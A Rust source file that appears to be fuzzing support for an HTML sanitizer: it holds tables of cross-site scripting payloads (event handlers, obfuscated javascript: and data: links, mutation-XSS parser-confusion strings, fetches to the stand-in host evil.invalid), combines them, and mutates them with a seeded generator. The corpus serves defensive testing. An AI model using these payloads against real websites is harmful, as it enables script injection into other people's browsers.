//! A collection of hostile markup, by family: what has run scripts, fetched things or confused parsers somewhere. Where
//! one wants a script it calls `alert`, and where it wants the network it asks `evil.invalid`.

/// Elements that run or fetch something of themselves, or hold handlers.
const ELEMENTS: [&str; 30] = [
    "img", "svg", "iframe", "video", "audio", "object", "embed", "body", "input", "button", "details", "marquee",
    "math", "a", "b", "p", "form", "select", "textarea", "style", "link", "meta", "base", "table", "x", "animate",
    "isindex", "frameset", "source", "portal",
];

/// What they are told to do.
const ATTRIBUTES: [&str; 12] = [
    "src=x onerror=alert(1)",
    "onload=alert(1)",
    "onmouseover=\"alert(1)\" style=\"position:fixed;left:0;top:0;width:9999px;height:9999px\"",
    "autofocus onfocus='alert(1)' tabindex=1",
    "open ontoggle=alert(1)",
    "src=https://evil.invalid/x.png href=https://evil.invalid/y data=https://evil.invalid/z",
    "style=\"background:url(https://evil.invalid/b.png)\"",
    "srcdoc=\"<script>parent.alert(1)</script>\"",
    "href=javascript:alert(1) action=javascript:alert(1) formaction=javascript:alert(1)",
    "onanimationstart=alert(1) style=animation-name:x",
    "/onbegin=alert(1)/attributeName=x dur=1s",
    "http-equiv=refresh content=\"0;url=javascript:alert(1)\"",
];

/// Values of a link.
const LINKS: [&str; 34] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "\u{200b}javascript:alert(1)",
    "javascript\u{3a}alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#0000106avascript:alert(1)",
    "&#x6a&#x61vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript://evil.invalid/%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "blob:https://evil.invalid/1",
    "filesystem:https://evil.invalid/1",
    "//evil.invalid",
    "/\\evil.invalid",
    "\\\\evil.invalid",
    "https:evil.invalid",
    "https://good.invalid@evil.invalid",
    "https://evil.invalid/\" onclick=\"alert(1)",
    "https://evil.invalid/' onclick='alert(1)",
    "https://evil.invalid/`onclick=`alert(1)",
    "https://evil.invalid/ onclick=alert(1) ",
];

/// What fits into no table.
const SINGLE: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>",
    "<script/src=https://evil.invalid/x.js>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\u{c}>alert(1)</script>",
    "<script >alert(1)</script >",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<?php echo '<img src=x onerror=alert(1)>'; ?>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "<!ENTITY x '<img src=x onerror=alert(1)>'>&x;",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=https://evil.invalid/x.js />",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><option><img src=x onerror=alert(1)>",
    "<table><td><a><table><img src=x onerror=alert(1)></a>",
    "<style>@import 'https://evil.invalid/s.css';</style>",
    "<style>*{background:url(https://evil.invalid/b.png)}</style>",
    "<link rel=stylesheet href=https://evil.invalid/s.css>",
    "<link rel=prefetch href=https://evil.invalid/p>",
    "<base href=https://evil.invalid/><img src=x>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><script src=https://evil.invalid/x.js></script>",
    "<iframe src=javascript:parent.alert(1)>",
    "<object data=javascript:parent.alert(1)>",
    "<embed src=data:text/html,<script>parent.alert(1)</script>>",
    "<video><source onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><img src=x onerror=alert(1)>\">",
    "<img/src/onerror=alert(1)>",
    "<img\u{b}src=x\u{b}onerror=alert(1)>",
    "<img src=x onerror\u{0}=alert(1)>",
    "<i\u{0}mg src=x onerror=alert(1)>",
    "<\u{0}script>alert(1)</script>",
    "<\u{17f}cript>alert(1)</\u{17f}cript>",
    "<\u{212a}bd>\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<b <img src=x onerror=alert(1)>>",
    "<p title='</p><img src=x onerror=alert(1)>'>",
];

/// Attributes on elements that may stay: none of them may stay with them.
const ON_ALLOWED: [&str; 12] = [
    "onclick=alert(1)",
    "ONCLICK=alert(1)",
    "style=\"background:url(https://evil.invalid/b.png)\"",
    "id=location name=cookie",
    "class=x dir=rtl lang=x",
    "contenteditable onfocus=alert(1) autofocus tabindex=0",
    "is=x-evil slot=x part=x",
    "xmlns=http://www.w3.org/2000/svg onload=alert(1)",
    "data-x='<img src=x onerror=alert(1)>'",
    "title=\"<img src=x onerror=alert(1)>\"",
    "rel=opener target=_blank ping=https://evil.invalid/ping",
    "download attributionsrc=https://evil.invalid/a",
];

/// All of them.
pub(crate) fn collection() -> Vec<String> {
    let mut all: Vec<String> = SINGLE.iter().map(|one| (*one).to_owned()).collect();
    for element in ELEMENTS {
        all.extend(ATTRIBUTES.iter().map(|attributes| format!("<{element} {attributes}>x</{element}>")));
    }
    for link in LINKS {
        all.push(format!("<a href=\"{link}\">x</a>"));
        all.push(format!("<a href='{link}'>x</a>"));
        all.push(format!("<a href={link}>x</a>"));
    }
    for element in ["a", "b", "p", "br", "ul", "li", "pre", "code", "strong"] {
        all.extend(ON_ALLOWED.iter().map(|attributes| format!("<{element} {attributes}>x</{element}>")));
    }
    for depth in [10, 100, 500] {
        all.push(format!("{}<img src=x onerror=alert(1)>", "<b>".repeat(depth)));
        all.push(format!("{}<img src=x onerror=alert(1)>", "<p><b x=1>".repeat(depth)));
        all.push(format!("{}<script>alert(1)</script>", "<a href=https://x.example>".repeat(depth)));
    }
    all
}

/// Always the same numbers, which look like chance.
pub(crate) struct Dice(pub(crate) u64);

impl Dice {
    pub(crate) fn below(&mut self, most: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 11) as usize % most.max(1)
    }
}

/// One or two of the collection, cut, joined, and with pieces in them that parsers trip over.
pub(crate) fn mutated(collection: &[String], dice: &mut Dice) -> String {
    const PIECES: [&str; 26] = [
        "<",
        ">",
        "\"",
        "'",
        "`",
        "/",
        "=",
        " ",
        "\n",
        "\u{0}",
        "&",
        ";",
        "&lt;",
        "&#x3c;",
        "<!--",
        "-->",
        "<b>",
        "</b>",
        "<svg>",
        "</style>",
        "<a href=\"",
        "\u{200b}",
        "\u{c}",
        "<![CDATA[",
        "<p",
        "]]>",
    ];
    let one: Vec<char> = collection[dice.below(collection.len())].chars().collect();
    let other: Vec<char> = collection[dice.below(collection.len())].chars().collect();
    let mut all: Vec<char> = match dice.below(3) {
        0 => one,
        1 => one[..dice.below(one.len())].iter().chain(&other[dice.below(other.len())..]).copied().collect(),
        _ => one.iter().chain(&other).copied().collect(),
    };
    for _ in 0..dice.below(5) {
        let at = dice.below(all.len() + 1);
        match dice.below(4) {
            0 if at < all.len() => {
                all.remove(at);
            }
            1 if at < all.len() => all[at] = all[at].to_ascii_uppercase(),
            _ => {
                all.splice(at..at, PIECES[dice.below(PIECES.len())].chars());
            }
        }
    }
    all.into_iter().collect()
}
